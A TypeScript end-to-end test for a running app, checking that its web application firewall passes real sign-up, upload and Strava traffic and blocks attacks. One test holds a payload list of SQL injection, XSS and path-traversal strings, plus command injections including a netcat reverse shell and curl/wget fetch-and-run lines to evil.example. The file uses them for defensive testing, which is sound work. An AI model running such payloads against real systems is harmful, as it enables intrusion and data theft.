import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { BrowserContext, Page } from '@runnerly/testing/browser';
import { gzip, syntheticRun, writeFit, writeGpx, writeTcx } from '@runnerly/activity-files/fixtures';
import { writeStravaExport } from '@runnerly/imports/fixtures';
import { isDistributed } from '@runnerly/storage/testing';
import { call, noChromium, openPage, useBrowserSystem, type BrowserSystem } from './browser-harness.ts';
import { freePort, noWaf, startWaf, type RunningWaf } from './waf-harness.ts';

// The whole system behind nginx + ModSecurity + the OWASP CRS (deploy/waf), as a runner's
// browser and Strava reach it: real traffic must pass, attacks must be refused with 403 JSON.
// The distributed suite never skips it (CI installs the Debian packages); the embedded one skips
// it on a machine without them.

const repoRoot = resolve(import.meta.dirname, '../../../..');
// The shared corpus of real recordings beside the repository (RUNNERLY_ACTIVITY_CORPUS elsewhere).
const corpus = join(
  process.env.RUNNERLY_ACTIVITY_CORPUS ?? resolve(repoRoot, '..', 'shared', 'activity-corpus'),
  'files',
);

// The WAF listens where the system's links point (activation mails, the OAuth redirect): its port
// is picked before the system starts. (Inside describe: node:test runs top-level before hooks
// all at once, not one after the other.)
let port = 0;
let wafUrl = '';
const verifyToken = 'waf-test-verify-token';
const hookSecret = 'waf-test-webhook-path-secret';
const skip = noChromium || (!isDistributed() && noWaf);
let e2e: BrowserSystem;
let waf: RunningWaf | undefined;

/** Requests a runner or Strava really sends, through the WAF: each must reach the gateway. */
const real = { sent: 0, passed: 0, refused: [] as string[] };
/** Attack payloads sent through the WAF: each must be refused by it. */
const attacks = { sent: 0, blocked: 0, passed: [] as string[] };

function watch(page: Page) {
  page.on('response', (r) => {
    if (!r.url().startsWith(wafUrl)) return;
    real.sent++;
    const by = r.headers()['x-waf'];
    if (by) real.refused.push(`${r.request().method()} ${r.url()} → ${r.status()} ${by}`);
    else real.passed++;
  });
}

async function realRequest(
  url: string,
  init: RequestInit = {},
): Promise<{ status: number; body: any; waf: string | null }> {
  const res = await fetch(url, init);
  const text = await res.text();
  const by = res.headers.get('x-waf');
  if (url.startsWith(wafUrl)) {
    real.sent++;
    if (by) real.refused.push(`${init.method ?? 'GET'} ${url} → ${res.status} ${by}`);
    else real.passed++;
  }
  let body: any = text;
  try {
    body = JSON.parse(text);
  } catch {
    /* not JSON */
  }
  return { status: res.status, body, waf: by };
}

const name = "Zoë O'Brien-Núñez 🏃‍♀️";
// A password manager's kind: the CRS took it for SQL injection before exclusion 10010.
const password = `'75.Q#=awa2Kay>72-0;z`;
let context: BrowserContext;
let page: Page;
let userId: string;

/** Device files to upload: the shared corpus of real recordings, or generated ones without it. */
function deviceFiles(): Array<{ name: string; mimeType: string; buffer: Buffer }> {
  if (existsSync(corpus)) {
    return [
      ['sportslib__amazfit.gpx', 'application/gpx+xml'],
      ['sportslib__6782987395.fit', 'application/octet-stream'],
      ['tcxparser__test.tcx', 'application/vnd.garmin.tcx+xml'],
      ['sportslib__6916728382.fit.gz', 'application/gzip'],
    ].map(([file, mimeType]) => ({ name: file!, mimeType: mimeType!, buffer: readFileSync(join(corpus, file!)) }));
  }
  const t0 = Date.parse('2026-02-01T07:00:00Z');
  const run = (seed: number) => syntheticRun({ seed, startTime: t0 + seed * 86_400_000, heartRate: true });
  return [
    { name: 'tempo.gpx', mimeType: 'application/gpx+xml', buffer: Buffer.from(writeGpx(run(1))) },
    { name: 'long.fit', mimeType: 'application/octet-stream', buffer: Buffer.from(writeFit(run(2))) },
    { name: 'easy.tcx', mimeType: 'application/vnd.garmin.tcx+xml', buffer: Buffer.from(writeTcx(run(3))) },
    { name: 'hills.fit.gz', mimeType: 'application/gzip', buffer: Buffer.from(gzip(writeFit(run(4)))) },
  ];
}

/**
 * A Strava bulk export: three runs (.fit.gz, .gpx, .tcx.gz as Strava stores them) named with
 * apostrophes, accents and emoji, and 16 MB of photos, past ModSecurity's SecRequestBodyLimit.
 */
function stravaExport(): { zip: Buffer; runNames: string[] } {
  const fromCorpus = existsSync(corpus);
  const files = fromCorpus
    ? {
        fit: gzip(readFileSync(join(corpus, 'pytrainer__sample.fit'))),
        gpx: readFileSync(join(corpus, 'georust__garmin-activity.gpx')),
        tcx: readFileSync(join(corpus, 'sportslib__polar.tcx.gz')),
      }
    : (() => {
        const run = (seed: number) =>
          syntheticRun({ seed, startTime: Date.parse('2025-06-01T07:00:00Z') + seed * 86_400_000 });
        return { fit: gzip(writeFit(run(11))), gpx: writeGpx(run(12)), tcx: gzip(writeTcx(run(13))) };
      })();
  const runNames = ["Sortie d'endurance — Zoë 🏃", 'Fartlek à Łódź, 5×1 km', "Parkrun 'n' café ☕"];
  const zip = writeStravaExport(
    [
      {
        id: '9100000001',
        type: 'Run',
        name: runNames[0]!,
        start: Date.parse('2013-02-09T10:07:06Z'),
        file: { name: 'activities/9100000001.fit.gz', bytes: files.fit },
      },
      {
        id: '9100000002',
        type: 'Run',
        name: runNames[1]!,
        start: Date.parse('2017-07-29T14:46:35Z'),
        file: { name: 'activities/9100000002.gpx', bytes: files.gpx },
      },
      {
        id: '9100000003',
        type: 'Run',
        name: runNames[2]!,
        start: Date.parse('2018-01-21T10:10:59Z'),
        file: { name: 'activities/9100000003.tcx.gz', bytes: files.tcx },
      },
    ],
    { extra: [{ name: 'media/IMG_0001.jpg', data: randomBytes(16 * 1024 * 1024), method: 'store' }] },
  );
  return { zip, runNames };
}

describe('the WAF in front of the gateway', () => {
  const env: Record<string, string> = {
    GATEWAY_TRUST_PROXY: '127.0.0.1',
    STRAVA_WEBHOOK_VERIFY_TOKEN: verifyToken,
    STRAVA_WEBHOOK_PATH_SECRET: hookSecret,
    // The gateway's own per-address limits stay out of the way: the WAF's limit_req is under test.
    GATEWAY_RATE_LIMIT_AUTH: '1000',
    GATEWAY_RATE_LIMIT_API: '100000',
  };
  before(async () => {
    port = await freePort();
    wafUrl = `http://127.0.0.1:${port}`;
    env.PUBLIC_URL = wafUrl;
  });
  e2e = useBrowserSystem('waf', env);
  before(async () => {
    if (skip) return;
    waf = await startWaf({
      upstream: e2e.sys.urls.gateway!,
      port,
      env: { WAF_RATE_AUTH: '10', WAF_BURST_AUTH: '20', WAF_RATE_API: '100', WAF_BURST_API: '400' },
    });
  });
  after(async () => {
    await waf?.close();
  });

  it(
    'lets the browser story through: sign-up (a weak password refused, saying why), activation from the mailbox, login, Home',
    { skip },
    async () => {
      ({ context, page } = await openPage(e2e));
      watch(page);
      const email = `zoe.obrien+waf-${Date.now()}@example.com`;
      await page.goto(`${wafUrl}/signup`);
      await page.getByRole('heading', { name: 'Create your account' }).waitFor();
      await page.getByLabel('Name (optional)').fill(name);
      await page.getByLabel('Email').fill(email);
      await page.getByLabel('Password').fill('password12');
      await page.getByRole('button', { name: 'Create account' }).click();
      await page.getByText(/on the lists of common and breached passwords/).waitFor();
      await e2e.shot(page, 'waf-01-weak-password');
      await page.getByLabel('Password').fill(password);
      await page.getByRole('button', { name: 'Create account' }).click();
      await page.getByRole('heading', { name: 'Check your mailbox' }).waitFor();

      await page.getByRole('link', { name: 'development mailbox' }).click();
      await page.getByRole('heading', { name: 'Mailbox' }).waitFor();
      const activate = page.getByRole('link', { name: 'Activate the account' }).first();
      for (let i = 0; i < 50 && !(await activate.count()); i++) {
        await page.waitForTimeout(100);
        await page.getByRole('button', { name: 'Refresh' }).click();
      }
      const box = await call<{ messages: Array<{ to: string; links: Array<{ url: string }> }> }>(
        page,
        'GET',
        '/api/mailbox',
      );
      const link = box.body.messages.find((m) => m.to === email)!.links[0]!.url;
      assert.ok(link.startsWith(`${wafUrl}/activate?token=`), `the mail's link goes through the WAF: ${link}`);
      await activate.click();
      await page.getByText('Your account is active.').waitFor();

      await page.getByRole('link', { name: 'Log in' }).last().click();
      await page.getByRole('heading', { name: 'Log in' }).waitFor();
      await page.getByLabel('Email').fill(email);
      await page.getByLabel('Password').fill(password);
      await page.getByRole('button', { name: 'Log in' }).click();
      await page.getByRole('heading', { name: 'Last 10 runs' }).waitFor();
      await page.getByText('No runs yet').waitFor();
      const session = await call<{ user: { id: string; name: string } }>(page, 'GET', '/api/session');
      assert.equal(session.body.user.name, name, 'the name as typed');
      userId = session.body.user.id;
      await e2e.shot(page, 'waf-02-home');
    },
  );

  it('lets uploads through: real device files, then a 17 MB Strava export ZIP', { skip }, async () => {
    await page.goto(`${wafUrl}/import`);
    await page.getByRole('heading', { name: 'Import runs from files', level: 1 }).waitFor();
    const files = deviceFiles();
    await page.getByLabel('Choose files').setInputFiles(files);
    const first = page.getByRole('region', { name: `Upload of ${files.length} files` });
    await first.getByText(`Finished: ${files.length} of ${files.length} files`).waitFor({ timeout: 60_000 });
    await first.getByText(`${files.length} added`).waitFor();

    const { zip, runNames } = stravaExport();
    assert.ok(zip.length > 13_107_200, 'larger than ModSecurity would take in');
    await page
      .getByLabel('Choose files')
      .setInputFiles([{ name: 'export_91234567.zip', mimeType: 'application/zip', buffer: zip }]);
    const exported = page.getByRole('region', { name: 'Upload of export_91234567.zip' });
    await exported.getByText(/^Finished: \d+ of \d+ files$/).waitFor({ timeout: 90_000 });
    await exported.getByText('3 added').waitFor();
    await e2e.shot(page, 'waf-03-uploads');

    const runs = await call<{ runs: Array<{ name: string }> }>(page, 'GET', '/api/me/runs?limit=20');
    assert.equal(runs.status, 200);
    for (const n of runNames)
      assert.ok(
        runs.body.runs.some((r) => r.name === n),
        `${n} imported with its name`,
      );
    assert.equal(runs.body.runs.length, files.length + 3);
  });

  it('lets JSON bodies with apostrophes, accents and emoji through', { skip }, async () => {
    const other = "D'Artagnan “Ève” Ørsted-Łukasiewicz 🏃🏽‍♂️";
    await page.getByRole('link', { name: 'Account' }).click();
    await page.getByRole('heading', { name: 'Account', exact: true }).waitFor();
    await page.getByRole('region', { name: 'Profile' }).getByLabel('Name', { exact: true }).fill(other);
    await page.getByRole('button', { name: 'Save profile' }).click();
    await page.getByText('Profile saved.').waitFor();
    const profile = await call<{ name: string }>(page, 'GET', '/api/me/profile');
    assert.equal(profile.body.name, other);

    const runs = await call<{ runs: Array<{ id: string }> }>(page, 'GET', '/api/me/runs?limit=1');
    const renamed = `Lap d'honneur — 10 × 400 m @ 1'30" <3 🏃`;
    const patch = await call<{ name: string }>(page, 'PATCH', `/api/data/runs/${runs.body.runs[0]!.id}`, {
      name: renamed,
    });
    assert.equal(patch.status, 200, JSON.stringify(patch.body));
    assert.equal(patch.body.name, renamed);
    // Back to the first name, for the checks after the attacks.
    assert.equal((await call(page, 'PATCH', '/api/me/profile', { name })).status, 200);
  });

  it("lets Strava's OAuth redirect and webhook through, answered as the gateway answers them", { skip }, async () => {
    await page.goto(`${wafUrl}/connections`);
    await page.getByRole('button', { name: 'Connect with Strava' }).click();
    await page.getByText('Strava simulator — not the real Strava').waitFor();
    await page.getByRole('button', { name: 'Authorize' }).click();
    await page.waitForURL(new RegExp(`^${wafUrl}/connections`));
    await page.getByText('Strava is connected.').waitFor();

    const gateway = e2e.sys.urls.gateway!;
    const challenge = randomBytes(16).toString('hex');
    const query = `?hub.mode=subscribe&hub.verify_token=${verifyToken}&hub.challenge=${challenge}`;
    const event = {
      aspect_type: 'update',
      event_time: 1_767_225_600,
      object_id: 1_360_128_428,
      object_type: 'activity',
      owner_id: 134_815,
      subscription_id: 120_475,
      // A title as a runner types it on Strava: three CRS rules took it for an attack (exclusion 10020).
      updates: { title: `Intervals 5x1 km @ 4'10"; select pace — Zoë's 🏃` },
    };
    for (const path of [`/api/strava/webhook/${hookSecret}${query}`]) {
      const direct = await realRequest(gateway + path);
      const through = await realRequest(wafUrl + path);
      assert.equal(through.waf, null);
      assert.deepEqual([through.status, through.body], [direct.status, direct.body]);
      assert.deepEqual([through.status, through.body['hub.challenge']], [200, challenge]);
    }
    const post = { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(event) };
    const direct = await realRequest(`${gateway}/api/strava/webhook/${hookSecret}`, post);
    const through = await realRequest(`${wafUrl}/api/strava/webhook/${hookSecret}`, post);
    assert.equal(through.waf, null, JSON.stringify(through.body));
    assert.deepEqual([through.status, through.body], [direct.status, direct.body]);
    assert.ok(through.status < 500);
  });

  it(
    'refuses SQL injection, XSS, path traversal and command injection in queries, JSON bodies and headers with 403 JSON',
    { skip },
    async () => {
      const cookies = await context.cookies(wafUrl);
      const cookie = cookies.map((c) => `${c.name}=${c.value}`).join('; ');
      const csrf = cookies.find((c) => c.name === 'runnerly_csrf')!.value;
      const json = (method: string, body: unknown): RequestInit => ({
        method,
        headers: { cookie, 'x-csrf-token': csrf, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      const payloads = {
        sqli: [
          "' OR '1'='1' --",
          '1 UNION SELECT email, password_hash FROM users--',
          '1; DROP TABLE runs;--',
          "admin'--",
          "1' AND SLEEP(5)#",
          "' or 1=1 limit 1 -- -+",
        ],
        xss: [
          '<script>alert(document.cookie)</script>',
          '<img src=x onerror=alert(1)>',
          'javascript:alert(1)',
          '<svg/onload=alert(1)>',
          '"><iframe src=javascript:alert(1)>',
          '<body onload=alert(1)>',
        ],
        traversal: [
          '../../../../etc/passwd',
          '..%2f..%2f..%2fetc%2fpasswd',
          '....//....//etc/passwd',
          '/etc/shadow',
          '..\\..\\..\\windows\\win.ini',
          '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
        ],
        rce: [
          '; cat /etc/passwd',
          '| nc -e /bin/sh 10.0.0.1 4444',
          '$(curl http://evil.example/x.sh | sh)',
          '; wget http://evil.example/s -O /tmp/s; sh /tmp/s',
          '&& whoami',
          '() { :; }; /bin/bash -c "id"',
        ],
      };
      const runs = await call<{ runs: Array<{ id: string }> }>(page, 'GET', '/api/me/runs?limit=20');
      const run = runs.body.runs[0]!.id;
      const batch = (p: string) => ({
        runs: [
          {
            user_id: userId,
            source: 'manual',
            source_id: `attack-${attacks.sent}`,
            name: p,
            sport_type: 'Run',
            start_time: '2026-02-01T08:00:00Z',
            timezone: 'Europe/Paris',
            distance_m: 5000,
            moving_time_s: 1500,
            elapsed_time_s: 1500,
          },
        ],
      });
      const places: Array<[where: string, kinds: Array<keyof typeof payloads>, (p: string) => [string, RequestInit]]> =
        [
          [
            'query string',
            ['sqli', 'xss', 'traversal', 'rce'],
            (p) => [`/api/me/runs?limit=10&q=${encodeURIComponent(p)}`, { headers: { cookie } }],
          ],
          [
            'JSON body: profile name',
            ['sqli', 'xss', 'traversal', 'rce'],
            (p) => ['/api/me/profile', json('PATCH', { name: p })],
          ],
          [
            'JSON body: new run',
            ['sqli', 'xss', 'traversal', 'rce'],
            (p) => ['/api/data/runs/batch', json('POST', batch(p))],
          ],
          [
            'JSON body: run rename',
            ['sqli', 'xss', 'traversal', 'rce'],
            (p) => [`/api/data/runs/${run}`, json('PATCH', { name: p })],
          ],
          ['User-Agent header', ['sqli', 'xss'], (p) => ['/api/session', { headers: { cookie, 'user-agent': p } }]],
          [
            'Cookie header',
            ['sqli', 'xss', 'traversal'],
            (p) => ['/api/session', { headers: { cookie: `${cookie}; theme=${encodeURIComponent(p)}` } }],
          ],
          ['Referer header', ['xss'], (p) => ['/api/session', { headers: { cookie, referer: `${wafUrl}/?${p}` } }]],
        ];
      let requestId = '';
      for (const [where, kinds, make] of places) {
        for (const kind of kinds) {
          for (const p of payloads[kind]) {
            const [path, init] = make(p);
            attacks.sent++;
            const res = await fetch(wafUrl + path, init);
            const body = (await res.json().catch(() => null)) as {
              code?: string;
              message?: string;
              request_id?: string;
            } | null;
            if (res.status === 403 && res.headers.get('x-waf') === 'waf_blocked' && body?.code === 'waf_blocked') {
              attacks.blocked++;
              assert.equal(typeof body.message, 'string');
              assert.equal(res.headers.get('content-type'), 'application/json');
              requestId = body.request_id!;
            } else attacks.passed.push(`${kind} in ${where}: ${p} → ${res.status} ${JSON.stringify(body)}`);
          }
        }
      }
      // Two classics on the login route too (its password field alone is left out).
      for (const email of ["admin@example.com' OR '1'='1", '<script>alert(1)</script>@example.com']) {
        attacks.sent++;
        const res = await fetch(`${wafUrl}/api/auth/login`, json('POST', { email, password: 'anything at all' }));
        await res.text();
        if (res.status === 403 && res.headers.get('x-waf') === 'waf_blocked') attacks.blocked++;
        else attacks.passed.push(`login email ${email} → ${res.status}`);
      }
      assert.deepEqual(attacks.passed, [], 'every attack refused by the WAF');

      // Refused before the gateway: nothing changed, and the operator can find why by the request id.
      const profile = await call<{ name: string }>(page, 'GET', '/api/me/profile');
      assert.equal(profile.body.name, name);
      const later = await call<{ runs: Array<{ name: string; source_id: string }> }>(
        page,
        'GET',
        '/api/me/runs?limit=100',
      );
      const sent = new Set(Object.values(payloads).flat());
      assert.ok(
        !later.body.runs.some((r) => r.source_id.startsWith('attack-') || sent.has(r.name)),
        'no run added or renamed',
      );
      const log = waf!.errorLog();
      assert.match(log, new RegExp(`Access denied with code 403[^\\n]*\\[unique_id "${requestId}"\\]`));
      assert.match(
        log,
        new RegExp(`\\[id "9[34]\\d{4}"\\][^\\n]*\\[unique_id "${requestId}"\\]`),
        'the rule that matched',
      );
    },
  );

  it('answers floods of the login and password routes with 429 JSON (nginx limit_req)', { skip }, async () => {
    const anonymous = await fetch(`${wafUrl}/api/session`);
    // The CSRF token is bound to the visitor's session: both cookies go back.
    const cookies = anonymous.headers.getSetCookie().map((c) => c.split(';')[0]!);
    const cookie = cookies.join('; ');
    const csrf = /runnerly_csrf=([^;]+)/.exec(cookie)![1]!;
    const flood = await Promise.all(
      Array.from({ length: 40 }, () =>
        fetch(`${wafUrl}/api/auth/forgot`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', cookie, 'x-csrf-token': csrf },
          body: JSON.stringify({ email: 'nobody@example.com' }),
        }).then(async (r) => ({
          status: r.status,
          waf: r.headers.get('x-waf'),
          retry: r.headers.get('retry-after'),
          body: (await r.json()) as { code?: string; message?: string },
        })),
      ),
    );
    const limited = flood.filter((r) => r.status === 429);
    // 20 at once (WAF_BURST_AUTH), of which the sign-up, activation, login and attacks above took some.
    assert.ok(limited.length >= 19, `${limited.length} of 40 refused`);
    for (const r of limited) {
      assert.equal(r.waf, 'rate_limited');
      assert.equal(r.body.code, 'rate_limited');
      assert.equal(typeof r.body.message, 'string');
      assert.equal(r.retry, '60');
    }
    for (const r of flood.filter((x) => x.status !== 429)) assert.equal(r.status, 202, JSON.stringify(r.body));
  });

  it('passed every real request and refused every attack', { skip }, (t) => {
    t.diagnostic(
      `WAF: attacks blocked ${attacks.blocked}/${attacks.sent}; real requests passed ${real.passed}/${real.sent}`,
    );
    assert.deepEqual(real.refused, [], 'no real request refused');
    assert.ok(real.sent > 50, `${real.sent} real requests`);
    assert.equal(attacks.blocked, attacks.sent);
    assert.ok(attacks.sent >= 100);
  });
});
